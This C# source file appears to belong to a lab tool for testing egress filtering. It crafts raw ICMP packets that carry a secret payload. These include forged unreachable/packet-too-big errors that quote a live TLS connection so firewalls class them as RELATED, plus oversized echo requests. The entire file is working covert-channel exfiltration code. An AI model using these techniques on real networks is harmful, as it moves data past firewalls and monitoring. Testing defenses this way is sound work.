using System.Buffers.Binary;
using System.Net;
using System.Net.Security;
using System.Net.Sockets;

namespace Exeat.Lab.Attacks;

/// <summary>ICMP as a carrier, on raw sockets.</summary>
internal static class IcmpTricks
{
    // More than an honest error carries: 576 bytes in all over IPv4 (RFC 1812, 4.3.2.3), 1280 over IPv6 (RFC 4443, 2.4c).
    private const int SecretBytes4 = 900, SecretBytes6 = 1280;

    /// <summary>An error message about a permitted connection, with the secret where the quoted packet's data stands: connection tracking calls it RELATED.</summary>
    public static async Task<bool> ErrorWithPayloadAsync(AttackTarget target)
    {
        IPAddress server = await target.ResolveAsync();
        using Socket flow = await AttackTarget.ConnectAsync(new IPEndPoint(server, target.Port));
        await using (var pieces = new NetworkStream(flow))
        {
            await using SslStream secured = AttackTarget.Tls(pieces);
            await secured.AuthenticateAsClientAsync(target.Name);
            var own = (IPEndPoint)flow.LocalEndPoint!;
            byte[] quoted = [.. Quoted(server, own, target.Port), .. Padding(target)];
            // Unreachable with the path's packet size in its second word: type 3 code 4 (RFC 1191), or type 2 (RFC 4443).
            byte[] message = target.Family == AddressFamily.InterNetwork
                ? [3, 4, 0, 0, 0, 0, 5, 0, .. quoted]
                : [2, 0, 0, 0, 0, 0, 5, 0, .. quoted];
            Send(target, server, message);
        }
        return true;
    }

    /// <summary>An echo request with a secret for its data.</summary>
    public static Task<bool> EchoWithPayloadAsync(AttackTarget target)
    {
        byte type = target.Family == AddressFamily.InterNetwork ? (byte)8 : (byte)128;
        Send(target, target.Address, [type, 0, 0, 0, 0x12, 0x34, 0, 1, .. Padding(target)]);
        return Task.FromResult(true);
    }

    /// <summary>An echo request of the size that ping sends.</summary>
    public static Task<bool> PingAsync(AttackTarget target)
    {
        byte type = target.Family == AddressFamily.InterNetwork ? (byte)8 : (byte)128;
        byte[] data = new byte[56];
        System.Text.Encoding.ASCII.GetBytes(target.Canary).CopyTo(data, 0);
        Send(target, target.Address, [type, 0, 0, 0, 0x12, 0x35, 0, 1, .. data]);
        return Task.FromResult(true);
    }

    private static byte[] Padding(AttackTarget target) =>
        [.. target.Secret, .. new byte[(target.Family == AddressFamily.InterNetwork ? SecretBytes4 : SecretBytes6) - target.Secret.Length]];

    // The quoted packet: one that the server might have sent to this client.
    private static byte[] Quoted(IPAddress server, IPEndPoint own, int port)
    {
        byte[] tcp = new byte[20];
        BinaryPrimitives.WriteUInt16BigEndian(tcp, (ushort)port);
        BinaryPrimitives.WriteUInt16BigEndian(tcp.AsSpan(2), (ushort)own.Port);
        tcp[12] = 0x50;
        tcp[13] = 0x10;
        byte[] from = server.GetAddressBytes(), to = own.Address.GetAddressBytes();
        if (from.Length == 16) return [0x60, 0, 0, 0, 3, 0xb8, 6, 60, .. from, .. to, .. tcp];
        byte[] header = [0x45, 0, 3, 0xcc, 0, 1, 0x40, 0, 60, 6, 0, 0, .. from, .. to];
        BinaryPrimitives.WriteUInt16BigEndian(header.AsSpan(10), Sum(header));
        return [.. header, .. tcp];
    }

    private static void Send(AttackTarget target, IPAddress to, byte[] message)
    {
        bool four = target.Family == AddressFamily.InterNetwork;
        using var socket = new Socket(target.Family, SocketType.Raw, four ? ProtocolType.Icmp : ProtocolType.IcmpV6);
        if (four) BinaryPrimitives.WriteUInt16BigEndian(message.AsSpan(2), Sum(message));
        socket.SendTo(message, new IPEndPoint(to, 0)); // for ICMPv6 the kernel fills in the checksum (RFC 3542, 3.1)
    }

    private static ushort Sum(ReadOnlySpan<byte> bytes)
    {
        uint sum = 0;
        for (int i = 0; i < bytes.Length; i += 2) sum += (uint)((bytes[i] << 8) | (i + 1 < bytes.Length ? bytes[i + 1] : 0));
        while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
        return (ushort)~sum;
    }
}
